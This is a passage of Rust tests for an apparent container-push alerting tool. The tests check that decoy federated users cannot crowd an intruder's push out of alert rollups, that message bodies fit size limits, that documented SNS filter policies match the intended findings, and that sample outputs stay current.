    assert_eq!(shlex::split(word).unwrap(), [key]);
}

/// `sts:GetFederationToken` gives a caller as many names as it likes. One of them is
/// the push that the others shall hide.
#[test]
fn decoys_do_not_push_a_finding_out_of_a_list() {
    let federated = |name: &str| {
        json!({
            "type": "FederatedUser",
            "principalId": format!("111122223333:{name}"),
            "arn": format!("arn:aws:sts::111122223333:federated-user/{name}"),
            "accountId": "111122223333",
            "accessKeyId": "ASIAIOSFODNN7EXAMPLE",
            "sessionContext": {"sessionIssuer": {
                "type": "IAMUser",
                "principalId": "AIDAEXAMPLEUSER000001",
                "arn": "arn:aws:iam::111122223333:user/minter",
                "accountId": "111122223333",
                "userName": "minter"
            }}
        })
    };
    let new = |identity: &Value, number: usize| {
        let id = format!("00000000-0000-4000-8000-{number:012}");
        finding(
            Reason::NewUploader,
            &record(&id, "2026-01-12T09:00:00Z", identity),
        )
    };
    let mut findings: Vec<_> = (0..40)
        .map(|number| new(&federated(&format!("decoy-{number}")), number))
        .collect();
    findings.push(new(&iam_user("intruder"), 40));
    let schemas = Schemas::new();
    for https_format in HTTPS_FORMATS {
        assert_lists_name_all(&findings, https_format, &schemas);
        let list = lists(&findings, https_format).pop().unwrap();
        for message in [Message::Rollup(list), Message::Digest(list)] {
            let mut bodies = bodies_of(message, https_format);
            bodies.remove("sms");
            for (protocol, body) in bodies {
                let body = body.replace("\n  ", " ");
                for words in [
                    "intruder pushed team/app:1.4.2",
                    &findings[40].id.to_string(),
                ] {
                    assert!(body.contains(words), "{protocol}: {body}");
                }
            }
        }
    }
}

#[test]
fn a_list_holds_as_many_as_its_tightest_body_can_name() {
    let fit = |name: &str, https_format| {
        let event = record("1", "2026-01-12T09:00:00Z", &iam_user(name));
        let findings = vec![finding(Reason::NewUploader, &event); 500];
        let fit = bodies::fit(&findings, &render_context(), https_format);
        (findings, fit)
    };
    let [ocsf, amazon_q, pagerduty] = HTTPS_FORMATS.map(|format| fit("test", format).1);
    assert!(
        amazon_q < ocsf && pagerduty < ocsf,
        "{amazon_q} {pagerduty} {ocsf}"
    );
    // Of long names the chat can name fewer than the request has room for; one more
    // would be too much.
    let long = "n".repeat(80);
    let (findings, amazon_q) = fit(&long, HttpsFormat::AmazonQ);
    assert!(amazon_q < fit(&long, HttpsFormat::Ocsf).1);
    let chat = &bodies_of(Message::Rollup(&findings[..amazon_q]), HttpsFormat::AmazonQ)["https"];
    let chat: Value = serde_json::from_str(chat).unwrap();
    let description = chat["content"]["description"].as_str().unwrap().len();
    assert!(description <= 7_000 && description + description / amazon_q >= 7_000);
    assert_eq!(bodies::fit(&[], &render_context(), HttpsFormat::Ocsf), 0);
}

/// A filter policy on the message's body, as SNS evaluates it: an object goes
/// down into the body; a list holds the values that match, one of which must be the
/// body's value, or one of its values where that is a list.
fn passes(policy: &Value, body: &Value) -> bool {
    policy.as_object().unwrap().iter().all(|(name, wanted)| {
        let value = &body[name];
        match (wanted, value) {
            (Value::Object(_), _) => passes(wanted, value),
            (Value::Array(wanted), Value::Array(values)) => {
                values.iter().any(|value| wanted.contains(value))
            }
            (Value::Array(wanted), _) => wanted.contains(value),
            _ => panic!("no policy"),
        }
    })
}

#[test]
fn the_documented_filter_policies_pass_every_shape_that_they_should() {
    let document = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/findings.md");
    let policies: Vec<Value> = fs::read_to_string(document)
        .unwrap()
        .lines()
        .filter_map(|line| line.trim().strip_prefix("--attribute-value '"))
        .map(|line| serde_json::from_str(line.split('\'').next().unwrap()).unwrap())
        .collect();
    assert_eq!(policies.len(), 2, "{policies:?}");
    // High and critical ones; new uploaders.
    let wanted: [fn(&Finding) -> bool; 2] = [
        |finding| finding.severity >= Severity::High,
        |finding| finding.reason == Reason::NewUploader,
    ];
    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
    let findings = Reason::ALL.map(|reason| finding(reason, &event));
    let schema = ocsf_schema().is_file().then(|| validator(&ocsf_schema()));
    let read = |text: &str| -> Value {
        if let Some(schema) = &schema {
            assert_valid(schema, text);
        }
        serde_json::from_str(text).unwrap()
    };
    let default = |message: Message<'_>| read(&bodies_of(message, HttpsFormat::Ocsf)["default"]);
    for (policy, wanted) in policies.iter().zip(wanted) {
        for one in &findings {
            let alone = Message::Finding(one);
            assert_eq!(passes(policy, &default(alone)), wanted(one), "{one:?}");
            let plainest = read(&bodies::plainest(one));
            assert_eq!(passes(policy, &plainest), wanted(one), "{plainest}");
            for other in &findings {
                let list = [one.clone(), other.clone()];
                for message in [Message::Rollup(&list), Message::Digest(&list)] {
                    let is_wanted = list.iter().any(wanted);
                    assert_eq!(passes(policy, &default(message)), is_wanted, "{message:?}");
                }
            }
        }
    }
}

/// `make docs-findings` writes them anew.
#[test]
fn the_samples_in_docs_are_current() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/findings");
    let event = samples()
        .into_iter()
        .find(|(name, _)| name == "iam-user")
        .unwrap()
        .1;
    let (push, uploader) = who(&event).unwrap();
    let seen = Sightings {
        first_seen: Some(push.event_time),
        last_seen: Some(push.event_time),
        ..Sightings::default()
    };
    let finding = Finding::new(Reason::NewUploader, &push, &uploader, seen);
    for (file, format) in [
        ("email.txt", Format::Email),
        ("sms.txt", Format::Sms),
        ("finding.json", Format::Json),
        ("ocsf.json", Format::Ocsf),
        ("amazon-q.json", Format::AmazonQ),
        ("pagerduty.json", Format::PagerDuty),
        ("asff.json", Format::Asff),
    ] {
        let mut text = render(Message::Finding(&finding), format, &render_context());
        if let Ok(value) = serde_json::from_str::<Value>(&text) {
            text = serde_json::to_string_pretty(&value).unwrap();
        }
        let text = format!("{}\n", text.trim_end());
        let path = folder.join(file);
        if std::env::var_os("WRITE_DOCS").is_some() {
            fs::create_dir_all(&folder).unwrap();
            fs::write(path, text).unwrap();
        } else {
            let there = fs::read_to_string(&path).unwrap_or_default();
            assert!(
                there == text,
                "docs/findings/{file} is not current: make docs-findings"
            );
        }
    }
}
